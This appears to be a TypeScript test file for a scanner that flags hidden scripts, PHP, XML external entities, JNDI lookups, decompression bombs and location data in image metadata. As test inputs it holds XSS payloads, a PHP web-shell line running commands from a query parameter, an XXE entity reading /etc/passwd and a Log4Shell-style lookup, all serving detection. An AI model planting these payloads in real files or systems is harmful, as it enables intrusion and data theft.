import { deflateSync } from 'node:zlib';
import { Findings } from '../finding.ts';
import { findInMetadata, findInTiff } from './find-in-metadata.ts';

const found = (bytes: Buffer | string, deflated?: true): string[] => {
  const findings = new Findings();
  const content = typeof bytes === 'string' ? Buffer.from(bytes, 'latin1') : bytes;
  findInMetadata([{ name: 'tEXt', bytes: content, ...(deflated ? { deflated } : {}) }], findings);
  return findings.list().map(({ kind }) => kind);
};

/** EXIF with a directory of positions, or without. */
function exif(tags: readonly number[]): Buffer {
  const bytes = Buffer.alloc(200);
  bytes.write('Exif\0\0MM\0*', 'latin1');
  const tiff = bytes.subarray(6);
  tiff.writeUInt32BE(8, 4);
  tiff.writeUInt16BE(1, 8);
  tiff.writeUInt16BE(0x8825, 10);
  tiff.writeUInt32BE(40, 18);
  tiff.writeUInt16BE(tags.length, 40);
  for (const [index, tag] of tags.entries()) tiff.writeUInt16BE(tag, 42 + index * 12);
  return bytes;
}

describe('looking through metadata', () => {
  it.each([
    ['a script', '"><script>alert(1)</script>'],
    ['a script in capitals', '<SCRIPT src=x>'],
    ['PHP', 'Comment\0<?php system($_GET["c"]); ?>'],
    ['short PHP among text', '<?= `id`; phpinfo() ?>'],
    ['an event handler', '<img src=x onerror=alert(1)>'],
    ['an address that is a script', 'see javascript:alert(1)'],
    ['a document type with entities', '<!ENTITY x SYSTEM "file:///etc/passwd">'],
    ['a lookup', '${jndi:ldap://203.0.113.9/a}'],
  ])('finds %s', (_what, text) => {
    expect(found(text)).toEqual(['metadata-script']);
    expect(found(deflateSync(text), true)).toEqual(['metadata-script']);
    expect(found(Buffer.from(text, 'utf16le'))).toEqual(text.includes('<') ? ['metadata-script'] : []);
  });

  it.each([
    'Made with a scanner; see https://example.org/javascript',
    '<x:xmpmeta><rdf:RDF><rdf:Description/></rdf:RDF></x:xmpmeta><?xpacket end="w"?>',
    '\x01\x02<?=\x9a\xff\0\x13',
    'My first script, by night',
  ])('finds nothing in %j', (text) => {
    expect(found(text)).toEqual([]);
  });

  it('tells of a text that expands to more than any text, and of an archive', () => {
    expect(found(deflateSync(Buffer.alloc(20 * 1024 * 1024)), true)).toEqual(['metadata-bomb']);
    expect(found('PK\x03\x04\x14\0')).toEqual(['metadata-archive']);
    expect(found('no deflated data', true)).toEqual([]);
  });

  it('tells that a position is given, only if it is', () => {
    expect(found(exif([1, 2, 3, 4]))).toEqual(['location']);
    expect(found(exif([0, 29]))).toEqual([]);
    expect(found('<rdf exif:GPSLatitude="48,0N"/>')).toEqual(['location']);
    expect(found(exif([2, 4]).subarray(0, 30))).toEqual([]);
  });

  it('looks at both ends of a TIFF', () => {
    const findings = new Findings();
    findInTiff(Buffer.concat([Buffer.alloc(3_000_000), Buffer.from('<?php x')]), findings);

    expect(findings.list()).toEqual([{ kind: 'metadata-script' }]);
  });
});
